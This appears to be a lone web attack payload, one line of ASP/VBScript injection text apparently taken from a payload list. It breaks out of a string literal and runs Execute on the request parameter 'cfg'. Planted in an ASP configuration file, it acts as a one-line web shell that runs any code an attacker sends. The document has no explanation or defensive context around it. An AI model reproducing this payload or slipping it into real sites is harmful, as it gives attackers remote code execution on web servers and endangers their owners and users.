0":Execute(Request("cfg")):x="
